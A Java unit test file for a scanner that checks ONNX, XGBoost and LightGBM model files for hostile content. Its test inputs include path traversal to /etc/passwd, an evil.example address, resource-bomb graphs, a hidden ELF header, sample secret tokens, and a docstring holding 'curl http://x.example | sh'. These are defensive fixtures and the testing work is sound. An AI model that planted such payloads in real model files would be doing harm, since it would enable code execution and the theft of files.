package dev.gambeson.artifact.check;

import static dev.gambeson.artifact.check.Hostile.clean;
import static dev.gambeson.artifact.check.Hostile.node;
import static org.assertj.core.api.Assertions.assertThat;

import com.google.protobuf.ByteString;
import dev.gambeson.artifact.ArtifactChecks;
import dev.gambeson.artifact.onnx.OnnxFile;
import dev.gambeson.artifact.onnx.proto.FunctionProto;
import dev.gambeson.artifact.onnx.proto.GraphProto;
import dev.gambeson.artifact.onnx.proto.ModelProto;
import dev.gambeson.artifact.onnx.proto.NodeProto;
import dev.gambeson.artifact.onnx.proto.OperatorSetIdProto;
import dev.gambeson.artifact.onnx.proto.SparseTensorProto;
import dev.gambeson.artifact.onnx.proto.TensorProto;
import dev.gambeson.core.Check;
import dev.gambeson.core.CheckContext;
import dev.gambeson.core.CheckResult;
import dev.gambeson.core.Outcome;
import dev.gambeson.core.Policy;
import dev.gambeson.core.Progress;
import dev.gambeson.core.Seed;
import dev.gambeson.core.Severity;
import dev.gambeson.core.Workers;
import dev.gambeson.testing.SharedData;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ModelFileChecksTest {
  @TempDir private Path folder;

  private CheckResult run(String id, Path file) {
    Check<Path> check =
        ArtifactChecks.forModelFile().stream()
            .filter(c -> c.info().id().equals(id))
            .findFirst()
            .orElseThrow();
    try (Workers workers = new Workers(1)) {
      return check
          .run(file, new CheckContext(Policy.defaults(), new Seed(1), workers, Progress.silent()))
          .getFirst();
    }
  }

  private CheckResult run(String id, ModelProto model) {
    Path file = folder.resolve("m.onnx");
    OnnxFile.write(file, model);
    return run(id, file);
  }

  private CheckResult run(String id, String text) throws Exception {
    Path file = folder.resolve("m.txt");
    Files.writeString(file, text);
    return run(id, file);
  }

  private static void assertFails(CheckResult result, Severity severity, String words) {
    assertThat(result.outcome()).contains(new Outcome.Fail());
    assertThat(result.findings())
        .anySatisfy(f -> {
          assertThat(f.severity()).isEqualTo(severity);
          assertThat(f.title() + ": " + f.message()).containsIgnoringCase(words);
        });
  }

  private static void assertPasses(CheckResult result) {
    assertThat(result.findings()).isEmpty();
    assertThat(result.outcome()).contains(new Outcome.Pass());
  }

  @ParameterizedTest
  @ValueSource(strings = {"GB-ART-001", "GB-ART-002", "GB-ART-003", "GB-ART-004", "GB-ART-005"})
  void aCleanModelPasses(String id) {
    assertPasses(run(id, clean().build()));
  }

  @ParameterizedTest
  @ValueSource(strings = {"GB-ART-001", "GB-ART-002", "GB-ART-003", "GB-ART-004", "GB-ART-005"})
  void everyRealModelPasses(String id) throws Exception {
    List<Path> models = new ArrayList<>();
    try (var files = Files.walk(SharedData.require("models"))) {
      files
          .filter(f -> f.toString().matches(".*(\\.onnx|boosted\\.json|\\.ubj)"))
          .forEach(models::add);
    }
    assertThat(models).hasSize(30);
    for (Path model : models) {
      CheckResult result = run(id, model);
      assertThat(result.findings()).as(model.toString()).isEmpty();
      assertThat(result.outcome()).as(model.toString()).contains(new Outcome.Pass());
    }
  }

  // GB-ART-001

  @Test
  void aTruncatedFileFailsAndTheOtherChecksAreInconclusive() throws Exception {
    Path file = folder.resolve("m.onnx");
    byte[] whole = OnnxFile.encode(clean().build());
    Files.write(file, Arrays.copyOf(whole, whole.length - 3));
    assertFails(run("GB-ART-001", file), Severity.HIGH, "not a whole ONNX file");
    for (String id : List.of("GB-ART-002", "GB-ART-003", "GB-ART-004", "GB-ART-005")) {
      assertThat(run(id, file).outcome()).as(id).get().isInstanceOf(Outcome.Inconclusive.class);
    }
  }

  @Test
  void aPickleNamedOnnxFails() throws Exception {
    Path file = folder.resolve("m.onnx");
    Files.write(file, new byte[] {(byte) 0x80, 4, (byte) 0x95, 0, 0});
    assertFails(run("GB-ART-001", file), Severity.HIGH, "a Python pickle");
  }

  @Test
  void aPayloadInAnUnknownFieldFails() {
    ModelProto model = clean().setUnknownFields(Hostile.unknown(200, new byte[5000])).build();
    assertFails(run("GB-ART-001", model), Severity.HIGH, "bytes outside the format: 5004 bytes");
  }

  @Test
  void anAppendedZipFails() throws Exception {
    Path file = folder.resolve("m.onnx");
    byte[] model = OnnxFile.encode(clean().build());
    byte[] both = Arrays.copyOf(model, model.length + 30);
    both[model.length] = 'P';
    both[model.length + 1] = 'K';
    both[model.length + 2] = 3;
    both[model.length + 3] = 4;
    Files.write(file, both);
    assertThat(run("GB-ART-001", file).outcome()).contains(new Outcome.Fail());
  }

  @Test
  void aSecondGraphFailsAsAmbiguous() throws Exception {
    Path file = folder.resolve("m.onnx");
    byte[] one = OnnxFile.encode(clean().build());
    byte[] two = Arrays.copyOf(one, 2 * one.length);
    System.arraycopy(one, 0, two, one.length, one.length);
    Files.write(file, two);
    assertFails(run("GB-ART-001", file), Severity.HIGH, "ambiguous field: Field 7");
  }

  @Test
  void anOpsetFromTheFutureFails() {
    ModelProto model =
        clean()
            .addOpsetImport(OperatorSetIdProto.newBuilder().setDomain("ai.onnx.ml").setVersion(6))
            .build();
    assertFails(run("GB-ART-001", model), Severity.MEDIUM, "operator set 6 of ai.onnx.ml; 1 to 5");
  }

  // GB-ART-002

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          /etc/passwd               | absolute path
          C:\\secrets.txt           | absolute path
          https://evil.example/w    | absolute path or address
          file:///etc/passwd        | absolute path or address
          ../../etc/passwd          | climbs out
          weights/../../etc/passwd  | climbs out
          weights\\..\\..\\secret   | climbs out
          """)
  void aPathOutOfTheFolderIsCritical(String location, String words) {
    assertFails(
        run("GB-ART-002", Hostile.withInitializer(Hostile.external("w", location))),
        Severity.CRITICAL,
        words);
  }

  @Test
  void aLinkOutOfTheFolderIsCritical(@TempDir Path elsewhere) throws Exception {
    Path secret = Files.writeString(elsewhere.resolve("secret"), "s");
    Files.createSymbolicLink(folder.resolve("w.bin"), secret);
    assertFails(
        run("GB-ART-002", Hostile.withInitializer(Hostile.external("w", "w.bin"))),
        Severity.CRITICAL,
        "a link that leads out");
  }

  @Test
  void aFileInsideTheFolderIsReportedBesideAPass() {
    CheckResult result = run("GB-ART-002", Hostile.withInitializer(Hostile.external("w", "w.bin")));
    assertThat(result.outcome()).contains(new Outcome.Pass());
    assertThat(result.findings())
        .singleElement()
        .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
  }

  @Test
  void anExternalPathInAnAttributeIsFound() {
    NodeProto constant =
        node(
            "Constant",
            List.of(),
            List.of("c"),
            Hostile.tensor("value", Hostile.external("", "/etc/passwd")));
    assertFails(run("GB-ART-002", Hostile.withNode(constant)), Severity.CRITICAL, ".value takes");
  }

  @Test
  void anExternalPathInASubgraphIsFound() {
    GraphProto branch =
        GraphProto.newBuilder().addInitializer(Hostile.external("w", "/etc/passwd")).build();
    NodeProto inner = node("If", List.of("x"), List.of("i"), Hostile.graph("then_branch", branch));
    GraphProto outer = GraphProto.newBuilder().addNode(inner).build();
    NodeProto node = node("If", List.of("x"), List.of("o"), Hostile.graph("else_branch", outer));
    assertFails(run("GB-ART-002", Hostile.withNode(node)), Severity.CRITICAL, "then_branch");
  }

  @Test
  void anExternalPathInAFunctionIsFound() {
    FunctionProto.Builder function =
        FunctionProto.newBuilder()
            .setName("f")
            .addNode(
                node(
                    "Constant",
                    List.of(),
                    List.of("c"),
                    Hostile.tensor("value", Hostile.external("", "../w"))))
            .addAttributeProto(Hostile.tensor("default", Hostile.external("", "/w")));
    CheckResult result = run("GB-ART-002", Hostile.withFunction(function));
    assertFails(result, Severity.CRITICAL, "functions[0]:f.node[0]");
    assertFails(result, Severity.CRITICAL, "functions[0]:f.default");
  }

  @Test
  void anExternalPathInASparseTensorIsFound() {
    SparseTensorProto sparse =
        SparseTensorProto.newBuilder().setValues(Hostile.external("w", "/etc/passwd")).build();
    assertFails(run("GB-ART-002", Hostile.withSparse(sparse)), Severity.CRITICAL, "sparse");
  }

  // GB-ART-003

  @Test
  void aPythonOperatorIsCritical() {
    NodeProto py =
        node("PyOp", List.of("x"), List.of("p")).toBuilder().setDomain("ai.onnx.contrib").build();
    assertFails(run("GB-ART-003", Hostile.withNode(py)), Severity.CRITICAL, "ai.onnx.contrib:PyOp");
  }

  @Test
  void aCustomDomainFails() {
    NodeProto op =
        node("Fast", List.of("x"), List.of("p")).toBuilder().setDomain("com.evil").build();
    assertFails(
        run("GB-ART-003", Hostile.withNode(op)), Severity.HIGH, "com.evil:Fast is used once");
  }

  @Test
  void aCustomDomainInASubgraphFails() {
    NodeProto op =
        node("Fast", List.of("x"), List.of("p")).toBuilder().setDomain("com.evil").build();
    NodeProto branch =
        node(
            "If",
            List.of("x"),
            List.of("o"),
            Hostile.graph("then_branch", GraphProto.newBuilder().addNode(op).build()));
    assertFails(run("GB-ART-003", Hostile.withNode(branch)), Severity.HIGH, "then_branch");
  }

  @Test
  void aRuntimesOwnOperatorIsReportedBesideAPass() {
    NodeProto op =
        node("Gelu", List.of("x"), List.of("p")).toBuilder().setDomain("com.microsoft").build();
    CheckResult result = run("GB-ART-003", Hostile.withNode(op));
    assertThat(result.outcome()).contains(new Outcome.Pass());
    assertThat(result.findings()).hasSize(1);
  }

  @Test
  void aFunctionOfTheModelItselfPassesAndOneThatReplacesAStandardOperatorFails() {
    FunctionProto.Builder f = FunctionProto.newBuilder().setName("Mine").setDomain("own");
    NodeProto use = node("Mine", List.of("x"), List.of("p")).toBuilder().setDomain("own").build();
    ModelProto.Builder model = Hostile.withNode(use).toBuilder().addFunctions(f);
    assertPasses(run("GB-ART-003", model.build()));
    model.addFunctions(FunctionProto.newBuilder().setName("Relu").setDomain(""));
    assertFails(run("GB-ART-003", model.build()), Severity.HIGH, "standard operator redefined");
  }

  // GB-ART-004

  @Test
  void aCycleFails() {
    ModelProto.Builder model = clean();
    model.getGraphBuilder().setNode(0, node("Add", List.of("x", "y"), List.of("s")));
    assertFails(run("GB-ART-004", model.build()), Severity.HIGH, "Value 'y' is an input of");
  }

  @Test
  void aValueThatNothingMakesFails() {
    assertFails(
        run("GB-ART-004", Hostile.withNode(node("Relu", List.of("ghost"), List.of("z")))),
        Severity.HIGH,
        "'ghost'");
  }

  @Test
  void aValueMadeTwiceFails() {
    assertFails(
        run("GB-ART-004", Hostile.withNode(node("Relu", List.of("x"), List.of("y")))),
        Severity.HIGH,
        "'y' is made a second time");
  }

  @Test
  void aSubgraphMayUseValuesAroundIt() {
    GraphProto branch =
        GraphProto.newBuilder()
            .addNode(node("Relu", List.of("s"), List.of("inner")))
            .addOutput(Hostile.value("inner"))
            .build();
    assertPasses(
        run(
            "GB-ART-004",
            Hostile.withNode(
                node("If", List.of("x"), List.of("o"), Hostile.graph("then_branch", branch)))));
  }

  @Test
  void aTensorWithFewerValuesThanItsShapeFails() {
    assertFails(
        run("GB-ART-004", Hostile.withInitializer(Hostile.floats("w", 1_000_000, 1f))),
        Severity.HIGH,
        "holds 1 values for the shape [1000000]");
  }

  @Test
  void aTensorWithRawBytesOfTheWrongLengthFails() {
    TensorProto t =
        TensorProto.newBuilder()
            .setName("w")
            .setDataType(Hostile.FLOAT)
            .addDims(2)
            .setRawData(ByteString.copyFrom(new byte[9]))
            .build();
    assertFails(run("GB-ART-004", Hostile.withInitializer(t)), Severity.HIGH, "9 bytes");
  }

  @Test
  void aShapeThatOverflowsFails() {
    TensorProto t =
        TensorProto.newBuilder()
            .setName("w")
            .setDataType(Hostile.FLOAT)
            .addDims(1L << 33)
            .addDims(1L << 33)
            .build();
    assertFails(run("GB-ART-004", Hostile.withInitializer(t)), Severity.HIGH, "impossible shape");
  }

  @ParameterizedTest
  @ValueSource(strings = {"ConstantOfShape", "Expand", "Tile", "Loop"})
  void aConstantSizeBombFails(String op) {
    ModelProto.Builder model = clean();
    model.getGraphBuilder().addInitializer(Hostile.longs("size", 1L << 20, 1L << 20));
    boolean first = op.equals("ConstantOfShape") || op.equals("Loop");
    model
        .getGraphBuilder()
        .addNode(node(op, first ? List.of("size") : List.of("x", "size"), List.of("boom")));
    assertFails(run("GB-ART-004", model.build()), Severity.HIGH, "resource bomb");
  }

  @Test
  void aBombWhoseSizeIsAConstantOperatorFails() {
    ModelProto.Builder model = clean();
    model
        .getGraphBuilder()
        .addNode(node("Constant", List.of(), List.of("size"), Hostile.ints("value_ints", 1L << 40)))
        .addNode(node("ConstantOfShape", List.of("size"), List.of("boom")));
    assertFails(run("GB-ART-004", model.build()), Severity.HIGH, "resource bomb");
  }

  @Test
  void aRangeBombFails() {
    ModelProto.Builder model = clean();
    model
        .getGraphBuilder()
        .addInitializer(Hostile.longs("from", 0))
        .addInitializer(Hostile.longs("to", 1L << 40))
        .addInitializer(Hostile.longs("step", 1))
        .addNode(node("Range", List.of("from", "to", "step"), List.of("boom")));
    assertFails(run("GB-ART-004", model.build()), Severity.HIGH, "resource bomb");
  }

  @Test
  void doublingByConcatenationFails() {
    ModelProto.Builder model = clean();
    String last = "x";
    for (int i = 0; i < 40; i++) {
      model.getGraphBuilder().addNode(node("Concat", List.of(last, last), List.of("c" + i)));
      last = "c" + i;
    }
    assertFails(run("GB-ART-004", model.build()), Severity.HIGH, "resource bomb");
  }

  @Test
  void denseConnectionsAreNoBomb() {
    ModelProto.Builder model = clean();
    String last = "x";
    for (int i = 0; i < 60; i++) {
      model
          .getGraphBuilder()
          .addNode(node("Conv", List.of(last, "b"), List.of("f" + i)))
          .addNode(node("Concat", List.of(last, "f" + i), List.of("c" + i)));
      last = "c" + i;
    }
    assertPasses(run("GB-ART-004", model.build()));
  }

  private static ModelProto trees(long[] yes, long[] no) {
    return Hostile.withNode(
        node(
            "TreeEnsembleClassifier",
            List.of("x"),
            List.of("l", "p"),
            Hostile.ints("nodes_treeids", 0, 0, 0),
            Hostile.ints("nodes_nodeids", 0, 1, 2),
            Hostile.ints("nodes_featureids", 0, 0, 0),
            Hostile.ints("nodes_truenodeids", yes),
            Hostile.ints("nodes_falsenodeids", no),
            Hostile.strings(
                "nodes_modes", "BRANCH_LEQ", yes[1] == 0 ? "LEAF" : "BRANCH_LEQ", "LEAF")));
  }

  @Test
  void treesThatAreTreesPassAndThoseThatGoInCirclesFail() {
    assertPasses(run("GB-ART-004", trees(new long[] {1, 0, 0}, new long[] {2, 0, 0})));
    assertFails(
        run("GB-ART-004", trees(new long[] {1, 1, 0}, new long[] {2, 2, 0})),
        Severity.HIGH,
        "broken trees");
    assertFails(
        run("GB-ART-004", trees(new long[] {7, 0, 0}, new long[] {2, 0, 0})),
        Severity.HIGH,
        "no proper child 7");
  }

  // GB-ART-005

  @ParameterizedTest(name = "{1}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          AKIA5TQ4RZ7WLPX2M3NB                                  | AWS access key
          ghp_0123456789abcdefghijABCDEFGHIJ012345              | GitHub token
          hf_abcdefghijklmnopqrstuvwxyzABCDEFGH                 | Hugging Face token
          -----BEGIN RSA PRIVATE KEY-----                       | private key
          postgres://admin:hunter22@db.internal/credit          | password in an address
          db_settings: password = correct-horse-battery         | password or token
          """)
  void aSecretInTheMetadataFailsAndIsNotRepeated(String secret, String kind) {
    CheckResult result = run("GB-ART-005", Hostile.withMetadata("note", secret));
    assertFails(result, Severity.HIGH, kind);
    assertThat(result.findings()).allSatisfy(f -> assertThat(f.message()).doesNotContain(secret));
  }

  @Test
  void aSecretInATextTensorIsFound() {
    TensorProto t =
        TensorProto.newBuilder()
            .setName("vocab")
            .setDataType(8)
            .addDims(1)
            .addStringData(ByteString.copyFromUtf8("AKIA5TQ4RZ7WLPX2M3NB"))
            .build();
    assertFails(run("GB-ART-005", Hostile.withInitializer(t)), Severity.HIGH, "AWS access key");
  }

  @Test
  void aScriptInADescriptionFails() {
    assertFails(
        run("GB-ART-005", clean().setDocString("#!/bin/sh\ncurl http://x.example | sh").build()),
        Severity.HIGH,
        "script");
  }

  @Test
  void aProgramInTheWeightsIsCritical() {
    byte[] weights = new byte[400];
    byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1};
    System.arraycopy(elf, 0, weights, 100, elf.length);
    TensorProto t =
        TensorProto.newBuilder()
            .setName("w")
            .setDataType(Hostile.FLOAT)
            .addDims(100)
            .setRawData(ByteString.copyFrom(weights))
            .build();
    assertFails(run("GB-ART-005", Hostile.withInitializer(t)), Severity.CRITICAL, "ELF");
  }

  @Test
  void theLettersMzInWeightsAreNoProgram() {
    byte[] weights = new byte[4000];
    Arrays.fill(weights, (byte) 'M');
    for (int i = 1; i < weights.length; i += 2) {
      weights[i] = 'Z';
    }
    TensorProto t =
        TensorProto.newBuilder()
            .setName("w")
            .setDataType(Hostile.FLOAT)
            .addDims(1000)
            .setRawData(ByteString.copyFrom(weights))
            .build();
    assertPasses(run("GB-ART-005", Hostile.withInitializer(t)));
  }

  @Test
  void aSecretAcrossTheEdgeOfALongTextIsFound() {
    String text = "a ".repeat((1 << 15) - 5) + "AKIA5TQ4RZ7WLPX2M3NB" + " b".repeat(100);
    assertFails(run("GB-ART-005", Hostile.withMetadata("n", text)), Severity.HIGH, "AWS");
  }

  @Test
  void anAddressIsReportedBesideAPassAndTheUsualOnesAreNot() {
    CheckResult odd =
        run("GB-ART-005", Hostile.withMetadata("home", "http://collect.example.net/x"));
    assertThat(odd.outcome()).contains(new Outcome.Pass());
    assertThat(odd.findings()).hasSize(1);
    assertPasses(run("GB-ART-005", Hostile.withMetadata("home", "https://pytorch.org/docs")));
  }

  // Trees

  @Test
  void anXgboostFileWithAnUnknownKeyFails() throws Exception {
    assertFails(
        run(
            "GB-ART-001",
            "{\"learner\": {\"objective\": {\"name\": \"binary:logistic\"}, \"run\": \"x\"}}"),
        Severity.HIGH,
        "no key 'run'");
  }

  @Test
  void contentBehindAnXgboostDocumentFails() throws Exception {
    assertFails(run("GB-ART-001", "{\"learner\": {}} {}"), Severity.HIGH, "more content follows");
  }

  @Test
  void anXgboostFileWithADoubledKeyFails() throws Exception {
    assertFails(run("GB-ART-001", "{\"learner\": {}, \"learner\": {}}"), Severity.HIGH, "uplicate");
  }

  @Test
  void aDeepXgboostFileIsRefused() throws Exception {
    assertFails(
        run("GB-ART-001", "{\"learner\": " + "[".repeat(100_000)), Severity.HIGH, "no well-formed");
  }

  @Test
  void anUnknownObjectiveFails() throws Exception {
    assertFails(
        run("GB-ART-003", "{\"learner\": {\"objective\": {\"name\": \"os.system\"}}}"),
        Severity.MEDIUM,
        "'os.system'");
  }

  @Test
  void aSplitOnAFeatureThatDoesNotExistFails() throws Exception {
    assertFails(
        run(
            "GB-ART-004",
            "{\"learner\": {\"gradient_booster\": {\"split_indices\": [0, 9]},"
                + " \"learner_model_param\": {\"num_feature\": \"3\"}}}"),
        Severity.HIGH,
        "features 0 to 9, but the model has 3");
  }

  @Test
  void everyPrefixOfAUbjsonModelIsRefused() throws Exception {
    byte[] whole = Files.readAllBytes(SharedData.require("models/breast_cancer/boosted.ubj"));
    for (int n = 20; n < whole.length; n += 997) {
      byte[] part = Arrays.copyOf(whole, n);
      org.assertj.core.api.Assertions.assertThatThrownBy(() -> XgboostUbjson.read("m", part))
          .hasMessageContaining("no whole XGBoost UBJSON model");
    }
  }

  @Test
  void aUbjsonContainerThatClaimsBillionsOfValuesIsRefused() {
    byte[] bomb = "{i\7learner[$i#l\177\377\377\377}".getBytes(StandardCharsets.ISO_8859_1);
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> XgboostUbjson.read("m", bomb))
        .hasMessageContaining("the file cannot hold");
  }

  private static final String LIGHTGBM =
      """
      tree
      version=v4
      num_class=1
      max_feature_idx=2
      objective=binary sigmoid:1

      Tree=0
      num_leaves=2
      split_feature=1

      end of trees

      feature_importances:
      Column_1=1

      parameters:
      [boosting: gbdt]
      end of parameters

      pandas_categorical:null
      """;

  @Test
  void aLightGbmModelPasses() throws Exception {
    for (String id :
        List.of("GB-ART-001", "GB-ART-002", "GB-ART-003", "GB-ART-004", "GB-ART-005")) {
      assertPasses(run(id, LIGHTGBM));
    }
  }

  @Test
  void aLightGbmModelWithAForeignLineOrACutFails() throws Exception {
    assertFails(run("GB-ART-001", LIGHTGBM + "import os\n"), Severity.HIGH, "line 21");
    assertFails(
        run("GB-ART-001", LIGHTGBM.substring(0, 100)), Severity.HIGH, "'end of trees' is missing");
    assertFails(
        run("GB-ART-004", LIGHTGBM.replace("split_feature=1", "split_feature=5")),
        Severity.HIGH,
        "features 0 to 5");
  }
}
